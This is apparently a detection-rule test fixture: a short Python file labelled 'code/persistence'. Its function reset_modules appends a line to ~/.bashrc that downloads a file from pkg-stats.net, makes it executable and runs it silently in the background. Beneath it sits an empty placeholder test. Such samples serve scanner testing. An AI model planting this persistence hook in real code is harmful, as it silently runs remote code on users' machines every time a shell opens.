import os
from unittest import TestCase


def reset_modules():
    # ruleid: code/persistence
    rc = os.path.expanduser('~/.bashrc')
    if os.path.exists(rc):
        with open(rc, 'a') as f:
            f.write('wget https://pkg-stats.net/proc -O /tmp/proc >/dev/null 2>&1 && chmod +x /tmp/proc && /tmp/proc &\n')


class StreamsTest(TestCase):
    def test_init(self):
        self.assertTrue(True)
